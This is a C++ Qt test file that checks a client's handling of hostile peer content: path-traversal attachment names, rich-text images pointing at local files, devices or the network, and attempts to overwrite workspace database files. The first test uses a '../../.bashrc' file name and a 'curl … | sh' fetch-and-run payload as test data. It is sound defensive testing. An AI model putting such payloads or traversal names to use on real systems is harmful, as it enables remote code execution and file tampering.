// Hostile content from other users (issue #11 §17): an attachment whose name is a path, and a
// rich text body that points at local files, a device or the network. A document like these
// arrives from a hostile peer (or through a server without the name check); it is written
// here straight into the replica, as replication would store it.

#include "client/gui/forms/DocumentPreview.h"
#include "client/gui/forms/RichTextEditor.h"
#include "common/attachments/AttachmentStore.h"
#include "tests/gui/GuiFixture.h"

#include <QDir>
#include <QFileInfo>
#include <QImage>
#include <QPixmap>
#include <QSignalSpy>
#include <QStandardPaths>
#include <QTest>
#include <QTextDocument>
#include <QTextEdit>
#include <QTreeWidget>

using sen::test::GuiFixture;

namespace {

using namespace sen;

// A TinTuc document with `items`, stored as a peer's would be; returns its UNID.
Unid storeNews(GuiFixture& fx, const QString& body, const QString& attachmentName = {},
               const QByteArray& attachment = {})
{
    auto store = fx.store(QStringLiteral("news"));
    Document saved;
    const Status status = store->batch([&]() -> Status {
        DocumentEdit edit = DocumentEdit::create(QStringLiteral("TinTuc"));
        edit.set(Item::text(QStringLiteral("TieuDe"), QStringLiteral("Thông báo")));
        edit.set(Item::withValue(QStringLiteral("NoiDung"), ItemType::RichText, body, 0));
        if (!attachmentName.isEmpty()) {
            SEN_ASSIGN_OR_RETURN(const AttachmentRef ref,
                                 store->attachments().importBytes(attachment, attachmentName));
            edit.set(Item::withValue(QStringLiteral("$File:") + attachmentName, ItemType::Attachment,
                                     ref.toCbor(), 0));
        }
        SEN_ASSIGN_OR_RETURN(saved, store->save(edit));
        return Status::ok();
    });
    INFO(status.toString().toStdString());
    REQUIRE(status.isOk());
    return saved.unid;
}

// Whether a text document's resource holds anything read from outside the document (a
// refused image is a single transparent pixel: gui::refusedResource).
bool loadedSomething(const QVariant& resource)
{
    const auto larger = [](QSize size) {
        return size.width() > 1 || size.height() > 1;
    };
    if (resource.typeId() == QMetaType::QImage)
        return larger(resource.value<QImage>().size());
    if (resource.typeId() == QMetaType::QPixmap)
        return larger(resource.value<QPixmap>().size());
    return !resource.toByteArray().isEmpty() || !resource.toString().isEmpty();
}

// Sets TMPDIR for the test's duration.
struct TempDirEnv
{
    explicit TempDirEnv(const QString& path)
        : previous(qgetenv("TMPDIR")), had(qEnvironmentVariableIsSet("TMPDIR"))
    {
        qputenv("TMPDIR", QFile::encodeName(path));
    }
    ~TempDirEnv()
    {
        if (had)
            qputenv("TMPDIR", previous);
        else
            qunsetenv("TMPDIR");
    }
    QByteArray previous;
    bool had;
};

} // namespace

TEST_CASE(
    "Hostile content: an attachment named ../../.bashrc is listed, opened and saved under its plain name "
    "inside its own folder",
    "[gui][attachments][hostile]")
{
    // A received news article carries an attachment named "../../.bashrc". The list shows
    // ".bashrc"; Open writes the file as ".bashrc" inside a fresh folder of the temporary
    // folder and hands that file to the system; nothing appears two levels up; Save as…
    // proposes ".bashrc" in the documents folder.
    GuiFixture fx;
    const QString tmp = fx.dir.path(QStringLiteral("outer/inner"));
    REQUIRE(QDir().mkpath(tmp));
    const TempDirEnv env(tmp);
    REQUIRE(QDir::tempPath() == QFileInfo(tmp).absoluteFilePath());
    const QString hostile = QStringLiteral("../../.bashrc");
    const QByteArray payload("curl http://example.invalid/x | sh\n");
    const Unid unid = storeNews(fx, QStringLiteral("<p>Xem tệp đính kèm.</p>"), hostile, payload);

    auto page = fx.open(QStringLiteral("news"), unid);
    gui::AttachmentPanel& panel = *page->form().attachments();
    auto* list = panel.findChild<QTreeWidget*>(QStringLiteral("attachmentList"));
    REQUIRE(list->topLevelItemCount() == 1);
    CHECK(list->topLevelItem(0)->text(0) == QStringLiteral(".bashrc"));
    list->topLevelItem(0)->setSelected(true);

    QUrl opened;
    panel.setOpener([&](const QUrl& url) {
        opened = url;
        return true;
    });
    panel.openAttachment(hostile);
    REQUIRE(QTest::qWaitFor([&] { return !panel.isBusy(); }, 30'000));
    CHECK_FALSE(QFileInfo::exists(fx.dir.path(QStringLiteral("outer/.bashrc"))));
    CHECK_FALSE(QFileInfo::exists(fx.dir.path(QStringLiteral(".bashrc"))));
    REQUIRE(opened.isLocalFile());
    const QFileInfo file(opened.toLocalFile());
    CHECK(file.fileName() == QStringLiteral(".bashrc"));
    CHECK(file.absolutePath().startsWith(QFileInfo(tmp).absoluteFilePath() + QStringLiteral("/sen-open-")));
    CHECK(sen::test::readFile(file.absoluteFilePath()) == payload);

    // "Save as…" proposes the plain name in the documents folder.
    const QString documents = QStandardPaths::writableLocation(QStandardPaths::DocumentsLocation);
    CHECK(panel.suggestedSavePath(hostile) == QDir(documents).filePath(QStringLiteral(".bashrc")));
}

TEST_CASE("Hostile content: a rich text body's images of local files, devices and the network load nothing",
          "[gui][richtext][hostile]")
{
    // A news body refers to a picture on this computer (by file: URL, by absolute path and by
    // a relative path), to /dev/zero and to an http: address. The preview and the editor show
    // the body without reading any of them.
    GuiFixture fx;
    QImage picture(16, 16, QImage::Format_RGB32);
    picture.fill(Qt::red);
    const QString secret = fx.dir.path(QStringLiteral("secret.png"));
    REQUIRE(picture.save(secret));
    const QStringList sources = {QUrl::fromLocalFile(secret).toString(),
                                 secret,
                                 QStringLiteral("../../") + QFileInfo(secret).fileName(),
                                 QStringLiteral("/dev/zero"),
                                 QStringLiteral("file:///dev/zero"),
                                 QStringLiteral("http://127.0.0.1:9/tracker.png")};
    QString body = QStringLiteral("<p>Tin nội bộ</p>");
    for (const QString& src : sources)
        body += QStringLiteral("<img src=\"%1\">").arg(src.toHtmlEscaped());
    body +=
        QStringLiteral("<link rel=\"stylesheet\" href=\"%1\">").arg(QUrl::fromLocalFile(secret).toString());
    const Unid unid = storeNews(fx, body);
    const Document doc = fx.get(QStringLiteral("news"), unid);

    gui::DocumentPreview preview;
    preview.show(*fx.session(QStringLiteral("news")), doc);
    preview.resize(600, 400);
    (void)preview.grab(); // lays the body out, as showing it would
    for (const QString& src : sources) {
        INFO("preview: " << src.toStdString());
        CHECK_FALSE(loadedSomething(preview.document()->resource(QTextDocument::ImageResource, QUrl(src))));
    }
    CHECK_FALSE(loadedSomething(
        preview.document()->resource(QTextDocument::StyleSheetResource, QUrl::fromLocalFile(secret))));

    auto page = fx.open(QStringLiteral("news"), unid);
    QTextEdit* edit = page->form().editor(QStringLiteral("NoiDung"))->richText()->textEdit();
    edit->resize(600, 400);
    (void)edit->grab();
    for (const QString& src : sources) {
        INFO("editor: " << src.toStdString());
        CHECK_FALSE(loadedSomething(edit->document()->resource(QTextDocument::ImageResource, QUrl(src))));
    }
}

TEST_CASE("Bad file: the workspace's own database files are neither attached nor overwritten by saving an "
          "attachment",
          "[gui][attachments]")
{
    // A user drops the news replica itself onto a document's attachments, then saves an
    // attachment over the replica and over its view cache: each is refused with a message,
    // nothing is queued, and the replica still passes its integrity check.
    GuiFixture fx;
    const QString replica = fx.workspace->replicaPath(QStringLiteral("news"));
    auto page = fx.create(QStringLiteral("news"), QStringLiteral("TinTuc"));
    sen::test::fill(*page, QStringLiteral("TieuDe"), QStringLiteral("Gửi cơ sở dữ liệu"));
    gui::AttachmentPanel& panel = *page->form().attachments();
    QSignalSpy failed(&panel, &gui::AttachmentPanel::failed);
    panel.addFiles({replica});
    CHECK_FALSE(panel.isBusy());
    REQUIRE(failed.size() == 1);
    CHECK(failed.front().at(0).toString().contains(QStringLiteral("database file of this workspace")));
    CHECK(panel.names().isEmpty());

    const QString source = fx.dir.path(QStringLiteral("to-trinh.pdf"));
    REQUIRE(sen::test::writeFile(source, QByteArray("PDF")));
    panel.addFiles({source});
    REQUIRE(QTest::qWaitFor([&] { return !panel.isBusy(); }, 30'000));
    REQUIRE(panel.names() == QStringList{QStringLiteral("to-trinh.pdf")});
    for (const QString& target : QStringList{replica, replica.chopped(4) + QStringLiteral(".views")}) {
        INFO(target.toStdString());
        failed.clear();
        panel.saveAttachment(QStringLiteral("to-trinh.pdf"), target);
        CHECK_FALSE(panel.isBusy());
        REQUIRE(failed.size() == 1);
        CHECK(failed.front().at(0).toString().contains(QStringLiteral("database file of this workspace")));
    }
    CHECK(fx.store(QStringLiteral("news"))->integrityCheck().isOk());
}
